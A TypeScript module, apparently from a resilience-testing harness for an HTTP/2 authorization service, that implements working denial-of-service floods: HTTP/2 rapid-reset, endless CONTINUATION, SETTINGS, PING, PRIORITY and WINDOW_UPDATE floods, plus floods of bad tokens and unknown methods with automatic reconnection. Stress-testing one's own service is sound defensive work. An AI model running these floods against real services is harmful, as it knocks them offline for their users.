import { setTimeout as delay } from 'node:timers/promises'
import { Flag, FrameType } from '../../../../bench/h2/frames.js'
import type { Header } from '../../../../bench/h2/hpack.js'
import type { Attack, AttackContext, AttackJob } from '../attack.js'
import { AUTHORIZE, bearer, callHeaders, framed, HEALTH_CHECK } from '../calls.js'
import { dataFrame, frameOf, headersFrame, RawConnection } from '../raw-connection.js'

/** Concurrent connections. */
const CONNECTIONS = 4
/** Frames passed to the system together. */
const BATCH = 200
/** Pause after a failed connection, in milliseconds. */
const PAUSE_MS = 5

/** Makes the frame of a flood; `number` counts the frames of its connection. */
type MakeFrame = (context: { job: AttackJob; connection: RawConnection; number: number }) => Buffer

const withToken = (job: AttackJob) => callHeaders(AUTHORIZE, [bearer(job)])

/** Floods by callers with a valid token, and by unauthenticated callers. */
export const floods = {
  knownResets: flood('rapid resets, valid token', true, ({ job, connection }) =>
    resetCall(connection, withToken(job)),
  ),
  unauthenticatedResets: flood('rapid resets, no token', false, ({ connection }) =>
    resetCall(connection, callHeaders(AUTHORIZE)),
  ),
  settings: flood('floods of SETTINGS', true, () => frameOf({ type: FrameType.SETTINGS })),
  pings: flood('floods of PING', true, () => frameOf({ type: FrameType.PING }, Buffer.alloc(8))),
  priorities: flood('floods of PRIORITY', true, ({ number }) =>
    frameOf({ type: 2, streamId: 2 * number + 1 }, Buffer.from([0, 0, 0, 0, 9])),
  ),
  windowUpdates: flood('floods of WINDOW_UPDATE', true, () =>
    frameOf({ type: FrameType.WINDOW_UPDATE }, Buffer.from([0, 0, 0, 1])),
  ),
  emptyData: flood('floods of empty DATA', true, ({ job, connection, number }) =>
    number === 0
      ? headersFrame(connection.newStreamId(), withToken(job))
      : frameOf({ type: FrameType.DATA, streamId: 3 }),
  ),
  continuations: flood('CONTINUATION without end', true, ({ job, connection, number }) =>
    number === 0
      ? frameOf({ type: FrameType.HEADERS, streamId: connection.newStreamId() }, Buffer.of(0x83))
      : frameOf({ type: FrameType.CONTINUATION, streamId: job.seed % 2 === 0 ? 3 : 1 }, Buffer.of(0x84)),
  ),
  healthChecks: flood('floods of health checks', false, ({ connection }) =>
    wholeCall(connection, callHeaders(HEALTH_CHECK)),
  ),
  badTokens: flood('floods of bad tokens', false, ({ connection }) =>
    wholeCall(connection, callHeaders(AUTHORIZE, [['authorization', 'Bearer a.b.c']])),
  ),
  unknownMethods: flood('floods of unknown methods', false, ({ connection }) =>
    wholeCall(connection, callHeaders('/nobody/Knows')),
  ),
} as const satisfies Readonly<Record<string, Attack>>

/** Sends as many frames as the service reads, and reconnects whenever the service closes the connection. */
function flood(title: string, isAuthenticated: boolean, makeFrame: MakeFrame): Attack {
  const open = (job: AttackJob) =>
    isAuthenticated ? RawConnection.authenticated(job) : RawConnection.open(job.target)
  return {
    title,
    run: (context) =>
      context.inParallel(CONNECTIONS, async () => {
        while (!context.isOver) {
          const connection = await open(context.job)
          if (connection) await sendAll(context, connection, makeFrame)
          else await delay(PAUSE_MS)
        }
      }),
  }
}

async function sendAll(
  context: AttackContext,
  connection: RawConnection,
  makeFrame: MakeFrame,
): Promise<void> {
  const { job } = context
  for (let first = 0; connection.isOpen && !context.isOver; first += BATCH) {
    const frames = Array.from({ length: BATCH }, (_, place) =>
      makeFrame({ job, connection, number: first + place }),
    )
    connection.write(...frames)
    context.ended('SENT', BATCH)
    await connection.untilTaken()
    await new Promise(setImmediate)
  }
  context.noted(connection.isOpen ? 'HELD TO THE END' : 'ENDED BY THE SERVICE')
  connection.close()
}

function resetCall(connection: RawConnection, headers: readonly Header[]): Buffer {
  const streamId = connection.newStreamId()
  const reset = frameOf({ type: FrameType.RST_STREAM, streamId }, Buffer.from([0, 0, 0, 8]))
  return Buffer.concat([headersFrame(streamId, headers), reset])
}

function wholeCall(connection: RawConnection, headers: readonly Header[]): Buffer {
  const streamId = connection.newStreamId()
  const data = dataFrame(streamId, framed(Buffer.alloc(0)), Flag.END_STREAM)
  return Buffer.concat([headersFrame(streamId, headers), data])
}
